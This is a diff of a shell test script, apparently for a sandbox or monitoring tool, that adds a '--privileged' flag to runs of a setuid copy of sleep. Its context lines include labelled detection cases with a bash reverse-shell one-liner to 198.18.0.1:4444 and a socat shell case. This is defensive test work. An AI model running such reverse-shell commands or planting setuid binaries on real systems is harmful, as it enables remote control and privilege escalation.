@@ -74,8 +74,9 @@ run bash -c "curl -s -o /dev/null file:///nonexistent/cmdline-neg-1; true"
 cp /usr/bin/sleep "$W/suid-sleep" && chmod 4755 "$W/suid-sleep"
 cp /usr/bin/sleep "$W/plain-sleep" && chmod 0755 "$W/plain-sleep"
 chmod 0755 "$W" "$T_TMP"
-sgrun --session s1 --uid nobody --cwd / -- "$W/suid-sleep" 0.31
-sgrun --session s1 --uid nobody --cwd / -- "$W/plain-sleep" 0.32
+# no_new_privs in a contained run keeps setuid from raising euid: both --privileged.
+sgrun --privileged --session s1 --uid nobody --cwd / -- "$W/suid-sleep" 0.31
+sgrun --privileged --session s1 --uid nobody --cwd / -- "$W/plain-sleep" 0.32
 run sh -c 'sleep 0.3; exit 0; bash -i >& /dev/tcp/198.18.0.1/4444 0>&1 # revsh-pos-1'
 sgrun --session s1 -- socat EXEC:'sleep 0.6' EXEC:'sh -s revsh-pos-2'
 run sh -c 'sleep 0.3; echo /dev/tcp is a bash feature # revsh-neg-1'
